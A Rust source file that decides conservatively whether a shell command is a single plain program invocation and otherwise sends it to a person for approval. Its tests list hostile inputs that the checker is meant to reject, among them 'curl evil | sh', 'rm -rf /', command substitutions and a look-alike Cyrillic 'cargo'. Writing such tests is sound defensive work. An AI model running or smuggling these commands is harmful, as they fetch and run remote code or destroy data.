//! Which shell commands are simple: one program with plain words, and nothing that a shell would make something else of.
//!
//! This errs on one side only. What it takes for simple is read by every shell as just these words; whatever it does not
//! know for sure, it calls not simple, and a person is asked.

use std::fmt;

/// The longest command that is looked at.
const LONGEST: usize = 8 << 10;
/// The most words that are looked at.
const MOST_WORDS: usize = 256;
/// Words that begin something else than a command.
const RESERVED: [&str; 22] = [
    "!", "[[", "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for", "foreach", "function",
    "if", "in", "repeat", "select", "then", "time", "until", "while", "{",
];
/// Why a command is not simple.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NotSimple {
    /// Several commands, a redirection, or a substitution.
    Composite,
    /// Words that a shell would replace.
    Expanded,
    /// A variable is set before the program.
    Assignment,
    /// A quotation mark without its other half, an escape, a control character or a letter beyond ASCII.
    Unclear,
    /// Nothing, or an empty word.
    Empty,
    /// Too long to be looked at.
    Long,
}

impl fmt::Display for NotSimple {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Composite => "a composite command is always asked",
            Self::Expanded => "a command with words that the shell replaces is always asked",
            Self::Assignment => "a command that sets variables is always asked",
            Self::Unclear => "a command with escapes, open quotes or unusual characters is always asked",
            Self::Empty => "a command with an empty word is always asked",
            Self::Long => "a command this long is always asked",
        })
    }
}

/// Takes a simple command apart into its words, as a shell would pass them on.
///
/// # Errors
/// Says why it is not simple.
pub fn words(text: &str) -> Result<Vec<String>, NotSimple> {
    if text.len() > LONGEST {
        return Err(NotSimple::Long);
    }
    if text.contains(['\n', '\r']) {
        return Err(NotSimple::Composite);
    }
    if !text.bytes().all(|byte| (b' '..=b'~').contains(&byte)) {
        return Err(NotSimple::Unclear);
    }
    let mut words = Vec::new();
    let mut rest = text.trim_matches(' ');
    while !rest.is_empty() {
        let (word, bare, after) = word(rest)?;
        if word.is_empty() {
            return Err(NotSimple::Empty);
        }
        if words.is_empty() {
            if word.contains('=') {
                return Err(NotSimple::Assignment);
            }
            if bare && RESERVED.contains(&word.as_str()) {
                return Err(NotSimple::Composite);
            }
        }
        words.push(word);
        if words.len() > MOST_WORDS {
            return Err(NotSimple::Long);
        }
        rest = after.trim_start_matches(' ');
    }
    if words.is_empty() { Err(NotSimple::Empty) } else { Ok(words) }
}

/// Takes the first word off a text; says whether none of it was quoted.
fn word(text: &str) -> Result<(String, bool, &str), NotSimple> {
    let (mut word, mut bare) = (String::new(), true);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        rest = &rest[1..];
        match c {
            ' ' => return Ok((word, bare, rest)),
            '\'' | '"' => {
                let end = rest.find(c).ok_or(NotSimple::Unclear)?;
                let quoted = &rest[..end];
                if c == '"' && quoted.contains(['$', '`']) {
                    return Err(NotSimple::Composite);
                }
                if c == '"' && quoted.contains(['\\', '!']) {
                    return Err(NotSimple::Unclear);
                }
                word.push_str(quoted);
                rest = &rest[end + 1..];
                bare = false;
            }
            ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' => return Err(NotSimple::Composite),
            '$' if rest.starts_with('(') => return Err(NotSimple::Composite),
            '$' | '*' | '?' | '[' | ']' | '{' | '}' | '!' => return Err(NotSimple::Expanded),
            '\\' => return Err(NotSimple::Unclear),
            // These mean something only where a word, or a part of it, begins.
            '~' | '#' | '^' | '=' if word.is_empty() && bare => return Err(NotSimple::Expanded),
            '~' if word.ends_with([':', '=']) => return Err(NotSimple::Expanded),
            c => word.push(c),
        }
    }
    Ok((word, bare, rest))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_commands_come_apart_as_a_shell_would_do_it() {
        let table: [(&str, &[&str]); 9] = [
            ("cargo test", &["cargo", "test"]),
            ("  cargo   test  ", &["cargo", "test"]),
            ("git diff HEAD~1 -- src/a.rs", &["git", "diff", "HEAD~1", "--", "src/a.rs"]),
            ("git show HEAD^", &["git", "show", "HEAD^"]),
            ("grep -n 'a; b' \"c & d\"", &["grep", "-n", "a; b", "c & d"]),
            ("echo a'b'\"c\"", &["echo", "abc"]),
            ("ls a#b --color=auto", &["ls", "a#b", "--color=auto"]),
            ("'if' x", &["if", "x"]),
            ("rg '*.rs'", &["rg", "*.rs"]),
        ];
        for (text, expected) in table {
            assert_eq!(words(text).unwrap(), expected, "{text}");
        }
    }

    #[test]
    fn what_a_shell_makes_something_of_is_not_simple() {
        use NotSimple::{Assignment, Composite, Empty, Expanded, Long, Unclear};
        let long = "a ".repeat(300);
        let table = [
            ("cargo test && curl evil | sh", Composite),
            ("cargo test; rm -rf /", Composite),
            ("cargo test & rm x", Composite),
            ("cargo test | tee x", Composite),
            ("cargo test > x", Composite),
            ("cargo test 2>&1", Composite),
            ("cargo test <<E", Composite),
            ("cargo test\nrm x", Composite),
            ("cargo test\rrm x", Composite),
            ("cargo $(rm x)", Composite),
            ("cargo `rm x`", Composite),
            ("cargo \"$(rm x)\"", Composite),
            ("cargo \"`rm x`\"", Composite),
            ("(cargo test)", Composite),
            ("cat <(ls)", Composite),
            ("if true", Composite),
            ("{ ls", Expanded),
            ("time ls", Composite),
            ("! ls", Expanded),
            ("ls $HOME", Expanded),
            ("ls ${x:-y}", Expanded),
            ("ls *.rs", Expanded),
            ("ls a?", Expanded),
            ("ls [ab]", Expanded),
            ("ls {a,b}", Expanded),
            ("ls ~", Expanded),
            ("ls ~root", Expanded),
            ("ls a=~root", Expanded),
            ("ls # x", Expanded),
            ("=ls", Expanded),
            ("^a^b", Expanded),
            ("ls !!", Expanded),
            ("FOO=1 ls", Assignment),
            ("'FOO'=1 ls", Assignment),
            ("ls \\\nx", Composite),
            ("ls \\x", Unclear),
            ("ls 'x", Unclear),
            ("ls \"x", Unclear),
            ("ls \"a\\b\"", Unclear),
            ("ls $'x'", Expanded),
            ("ls\u{a0}x", Unclear),
            ("ls\tx", Unclear),
            ("сargo test", Unclear),
            ("ls ''", Empty),
            ("''", Empty),
            ("", Empty),
            ("   ", Empty),
            (long.as_str(), Long),
        ];
        for (text, why) in table {
            assert_eq!(words(text), Err(why), "{text}");
        }
        assert_eq!(words(&"a".repeat(100_000)), Err(Long));
    }
}
